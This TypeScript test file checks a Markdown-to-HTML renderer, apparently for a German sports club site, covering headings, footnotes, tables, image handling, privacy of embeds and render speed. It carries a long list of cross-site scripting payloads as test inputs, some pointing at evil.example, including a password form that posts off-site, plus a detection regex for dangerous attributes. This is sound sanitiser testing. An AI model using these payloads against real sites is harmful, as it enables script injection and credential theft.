import fc from 'fast-check'
import { expect, test } from 'vitest'
import { renderMarkdown } from './render-markdown.ts'
import { findTooDeep } from './too-deep.ts'
import { threadTime } from '#tests/support/site/cpu-time.ts'

const html = (markdown: string) => renderMarkdown(markdown).html

test('paragraphs, emphasis and lists become HTML', () =>
  expect(html('**Sieg** im *Derby*\n\n- eins\n- zwei')).toBe(
    '<p><strong>Sieg</strong> im <em>Derby</em></p>\n<ul>\n<li>eins</li>\n<li>zwei</li>\n</ul>',
  ))

test('the plain text has no markup and single spaces', () =>
  expect(renderMarkdown('# Sieg\n\n**Neun**\nzu [sieben](/x)   &amp; mehr').text).toBe('Sieg Neun zu sieben & mehr'))

test('an empty article is empty', () => expect(renderMarkdown('')).toEqual({ html: '', text: '', headings: [] }))

test('a first-level heading steps down, because the page has one', () =>
  expect(html('# Eins\n\n### Zwei')).toBe('<h2 id="abschnitt-1">Eins</h2>\n<h3>Zwei</h3>'))

test('second-level headings are named, so that a table of contents can lead to them', () => {
  const { html: page, headings } = renderMarkdown('## Das *erste*\n\nText\n\n## Das zweite')
  expect(headings).toEqual([
    { id: 'abschnitt-1', text: 'Das erste' },
    { id: 'abschnitt-2', text: 'Das zweite' },
  ])
  for (const { id } of headings) expect(page).toContain(`<h2 id="${id}">`)
})

test("a heading's own id stays, and links to it lead there", () => {
  const { html: page, headings } = renderMarkdown('<h2 id="anmeldung">Anmeldung</h2>\n\n[dorthin](#anmeldung)')
  expect(headings).toEqual([{ id: 'artikel-anmeldung', text: 'Anmeldung' }])
  expect(page).toContain('id="artikel-anmeldung"')
  expect(page).toContain('href="#artikel-anmeldung"')
})

test('our own pictures are loaded when they come into view', () => {
  for (const path of ['pictures/a.svg', '/pictures/a.svg', './pictures/a.svg'])
    expect(html(`![Jubel](${path})`)).toBe('<p><img src="/pictures/a.svg" alt="Jubel" loading="lazy"></p>')
})

test.each([
  '![x](https://foreign.example/x.png)',
  '![x](//foreign.example/x.png)',
  '![x](data:image/png;base64,AAAA)',
  '<img src="https://foreign.example/x.png" srcset="https://foreign.example/y.png 2x">',
  '<img src="pictures/a.svg" srcset="https://foreign.example/y.png 2x">',
  '<picture><source srcset="https://foreign.example/x.png"><img src="pictures/a.svg"></picture>',
  '<video poster="https://foreign.example/x.png"><source src="https://foreign.example/x.mp4"></video>',
  '<p style="background:url(https://foreign.example/x.png)">a</p>',
  '<body background="https://foreign.example/x.png">a</body>',
  '<link rel="stylesheet" href="https://foreign.example/x.css">',
  '<input type="image" src="https://foreign.example/x.png">',
])('no foreign host learns who reads %s', (markdown) =>
  expect(html(`davor ${markdown} danach`)).not.toContain('foreign.example'),
)

test('of two foreign pictures in a row neither stays', () =>
  expect(html('![a](https://a.example/a.png)![b](https://b.example/b.png)')).toBe('<p></p>'))

test('a link to another site opens without telling it more than needed', () =>
  expect(html('[Verband](https://verband.example) [hier](/docs) [Post](mailto:a@b.example)')).toBe(
    '<p><a href="https://verband.example" rel="noopener noreferrer">Verband</a> <a href="/docs">hier</a> ' +
      '<a href="mailto:a@b.example">Post</a></p>',
  ))

test('a footnote and the way back from it lead to places that exist', () => {
  const page = html('Sieg[^1] und Remis[^zwei].\n\n[^1]: Neun zu sieben.\n[^zwei]: Acht zu acht.')
  const targets = [...page.matchAll(/href="#([^"]+)"/g)].map(([, target]) => target)
  expect(targets).toHaveLength(4)
  const described = [...page.matchAll(/aria-describedby="([^"]+)"/g)].map(([, target]) => target)
  for (const target of [...targets, ...described]) expect(page).toContain(`id="${target}"`)
  expect(page).toContain('>Fußnoten</h2>')
  expect(page).toContain('aria-label="Zurück zum Text"')
})

test("an author's id cannot shadow one of the page", () => {
  expect(html('<h2 id="inhalt" name="inhalt">a</h2>')).toBe('<h2 id="artikel-inhalt" name="artikel-inhalt">a</h2>')
  expect(html('[nach oben](#inhalt)')).toContain('href="#inhalt"')
})

test('a table can be scrolled by keyboard', () =>
  expect(html('| a |\n|---|\n| b |')).toMatch(
    /^<div class="table-scroll" tabindex="0" role="region" aria-label="Tabelle"><table>[\s\S]*<\/table><\/div>$/,
  ))

const TAG = /<\/?([a-z][a-z0-9]*)((?: [a-z][a-z-]*(?:="[^"]*")?)*)>/g
const ELEMENT =
  /^(a|b|blockquote|br|code|dd|del|details|div|dl|dt|em|h[1-6]|hr|i|img|input|ins|kbd|li|ol|p|pre|q|s|samp)$|^(section|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|ul|var|rp|rt|ruby)$/
const DANGEROUS =
  // A title may contain anything; only attributes with an address can do harm.
  / (on\w+|style|srcset|srcdoc|formaction|ping|target|poster|background)="| (href|src|cite|action|data|longdesc)="\s*(javascript|vbscript|data|file|blob):/i

function expectHarmless(markdown: string) {
  const page = html(markdown)
  for (const [tag, element = '', attributes = ''] of page.matchAll(TAG)) {
    expect(element, tag).toMatch(ELEMENT)
    expect(attributes).not.toMatch(DANGEROUS)
  }
  // Everything outside of these strict tags is text, which must not contain the start of a tag.
  expect(page.replace(TAG, '')).not.toContain('<')
}

test.each([
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="pictures/a.svg" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example"><input name="password"><button>Anmelden</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](pictures/a.svg"onerror="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<details open ontoggle=alert(1)>x</details>',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>@import url(https://evil.example)</style>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '```html"><script>alert(1)</script>\nx\n```',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[^1]: <img src=x onerror=alert(1)>\n\nx[^1]',
  '<a href="https://a.example" target="_blank" onclick="alert(1)" ping="https://evil.example">x</a>',
])('%s does no harm', expectHarmless)

test.each([
  [
    '<iframe src="https://www.youtube-nocookie.com/embed/a_B-1?rel=0" allowfullscreen></iframe>',
    '<p><a href="https://www.youtube.com/watch?v=a_B-1" rel="noopener noreferrer">Video bei YouTube ansehen</a> (wenn',
  ],
  ['<iframe src="//player.vimeo.com/video/12"></iframe>', 'href="https://vimeo.com/12"'],
  [
    'Text <iframe src="https://karte.example/e?a=1&b=2"></iframe>',
    '<p>Text <a href="https://karte.example/e?a=1&#x26;b=2"',
  ],
  [
    '<div><iframe src="https://karte.example/"></iframe></div>',
    'Inhalt bei karte.example ansehen</a> (wenn Sie dem Link',
  ],
])('what is embedded becomes a link that tells who will know: %s', (markdown, expected) => {
  expect(html(markdown)).toContain(expected)
  expect(html(markdown)).not.toContain('<iframe')
})

test('no combination of dangerous pieces does harm', () => {
  const piece = fc.constantFrom(
    ...['<script>', '</script>', '<img src=x onerror=alert(1)', '>', '"', "'"],
    ...['<svg', ' onload=alert(1)', '<!--', '-->'],
    ...['<a href="', 'javascript:alert(1)', '](', ')', '![', '[', '`', '\n\n', '\n', '<math>', '<style>', '</style>'],
    ...['<table>', '<p title="', '<iframe src=', '&#106;', '\0', '<noscript>', '<template>', '| a |\n|--|\n', '    '],
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => expectHarmless(pieces.join(''))),
    { numRuns: 1_000 },
  )
})

test.each([
  ['brackets', '['.repeat(3_000)],
  ['half links', '[a]('.repeat(2_000)],
  ['stars', '*a **b '.repeat(2_000)],
  ['backticks', '`'.repeat(5_000)],
  ['ampersands', '&'.repeat(20_000)],
  ['half addresses', 'www.a@b.'.repeat(2_000)],
  ['one long word', 'a'.repeat(100_000)],
  ['signs that might end one another', '*a_'.repeat(30_000)],
  ['ends of links', ']'.repeat(100_000)],
  ['underlines', 'a\n=\n'.repeat(25_000)],
  ['elements without an end', '<b>'.repeat(30_000)],
  ['tables in tables', '<table><td>'.repeat(9_000)],
  ['quotes in quotes', '> '.repeat(50_000)],
  ['footnotes', '[^a] x [^b] '.repeat(8_000)],
  ['blank and folded lines', ' \n\t'.repeat(30_000)],
])('an article of %s is rendered in good time', (_, markdown) =>
  expect(threadTime(() => renderMarkdown(markdown))).toBeLessThan(1_000),
)

test('a long table, a long list and a page from another program are no reason to show letters alone', () => {
  const table = `| a | b |\n|---|---|\n${'| **Sieg** | [9:1](/a) |\n'.repeat(600)}`
  const list = '- **Eins**: [zwei](/b)\n'.repeat(600)
  const page = '<div><p>Text<br>mit <b>Wort</b><p>Noch einer</div>\n\n'.repeat(1_000)
  for (const text of [table, list, page]) expect(findTooDeep(text)).toBe(-1)
})

test('several tables are told apart by their names', () => {
  const table = '| a |\n|---|\n| 1 |\n'
  const { html } = renderMarkdown(`${table}\nText\n\n${table}\nText\n\n${table}`)
  expect([...html.matchAll(/aria-label="([^"]+)"/g)].map(([, name]) => name)).toEqual([
    'Tabelle',
    'Tabelle 2',
    'Tabelle 3',
  ])
})

test('a picture that stands alone has its title below it, one within a sentence keeps it', () => {
  expect(renderMarkdown('![Jubel](pictures/a.jpg "Am <Abend>")').html).toBe(
    '<figure><img src="/pictures/a.jpg" alt="Jubel" loading="lazy"><figcaption>Am &#x3C;Abend></figcaption></figure>',
  )
  expect(renderMarkdown('Hier ![Jubel](pictures/a.jpg "Am Abend")').html).toContain('title="Am Abend"')
  expect(renderMarkdown('![Jubel](pictures/a.jpg)').html).toBe(
    '<p><img src="/pictures/a.jpg" alt="Jubel" loading="lazy"></p>',
  )
})
